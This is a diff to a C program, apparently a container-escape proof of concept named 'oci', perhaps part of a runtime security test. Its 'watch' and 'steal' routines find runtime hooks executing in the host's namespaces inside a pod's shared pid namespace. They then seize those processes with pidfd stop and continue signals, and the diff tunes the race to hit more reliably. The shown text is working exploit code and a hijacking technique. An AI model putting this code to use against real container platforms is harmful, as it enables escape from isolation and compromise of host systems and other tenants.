@@ -13,7 +13,6 @@
 #include <string.h>
 #include <dirent.h>
 #include <sys/mount.h>
-#include <time.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <unistd.h>
@@ -163,9 +162,12 @@ __attribute__((noreturn)) static void steal(void) {
   for (;;) {
     int pidfd = syscall(SYS_pidfd_open, next, 0);
     if (pidfd < 0) {
-      /* Not there yet; a pid skipped (a process that came and went) moves us on. */
-      if (kill(next + 1, 0) == 0)
-        next++;
+      /* Not there yet, or came and went: a later process that exists moves us on to it. */
+      for (int ahead = 1; ahead < 64; ahead++)
+        if (kill(next + ahead, 0) == 0) {
+          next += ahead;
+          break;
+        }
       continue;
     }
     int stops = 0, stolen = 0;
@@ -196,6 +198,8 @@ __attribute__((noreturn)) static void steal(void) {
       syscall(SYS_pidfd_send_signal, pidfd, SIGCONT, NULL, 0);
       if (done || state_of(next) == 0)
         break;
+      /* Let it run a little: a stop sent while it is inside exec still lands right after. */
+      usleep(20);
     }
     close(pidfd);
     printf("watched %d: %d stops\n", next, stops);
@@ -205,20 +209,20 @@ __attribute__((noreturn)) static void steal(void) {
 }
 
 /*
- * watch SECONDS TOKEN: the init of a container whose pid namespace another container joins (a
- * pod): every process that appears in the namespace, by its command line. A process whose command
- * line holds TOKEN is a hook the runtime runs in its own (the host's) namespaces: it has no
- * business here. Says "watch done" after SECONDS.
+ * watch TOKEN: the init of a container whose pid namespace another container joins (a pod): every
+ * process that appears in the namespace, by its command line. A process whose command line holds
+ * TOKEN is a hook the runtime runs in its own (the host's) namespaces: it has no business here.
  */
-static int watch(int seconds, const char *token) {
-  time_t end = time(NULL) + seconds;
+__attribute__((noreturn)) static void watch(const char *token) {
   int seen = 0;
   char self[32];
   snprintf(self, sizeof self, "%d", getpid());
-  while (time(NULL) < end) {
+  printf("watching\n");
+  fflush(stdout);
+  for (;;) {
     DIR *proc = opendir("/proc");
     if (!proc)
-      return 1;
+      exit(1);
     struct dirent *p;
     while ((p = readdir(proc))) {
       if (p->d_name[0] < '1' || p->d_name[0] > '9' || !strcmp(p->d_name, self))
@@ -241,9 +245,6 @@ static int watch(int seconds, const char *token) {
     }
     closedir(proc);
   }
-  printf("watch done\n");
-  fflush(stdout);
-  return 0;
 }
 
 int main(int argc, char **argv) {
@@ -257,8 +258,8 @@ int main(int argc, char **argv) {
   if (!strcmp(cmd, "init") && argc == 7)
     return init_attack(atoi(argv[2]), argv[3], argv[4], (dev_t)strtoull(argv[5], 0, 10),
                        (ino_t)strtoull(argv[6], 0, 10));
-  if (!strcmp(cmd, "watch") && argc == 4)
-    return watch(atoi(argv[2]), argv[3]);
+  if (!strcmp(cmd, "watch") && argc == 3)
+    watch(argv[2]);
   if (!strcmp(cmd, "steal"))
     steal();
   fprintf(stderr, "oci: bad arguments for %s\n", cmd);
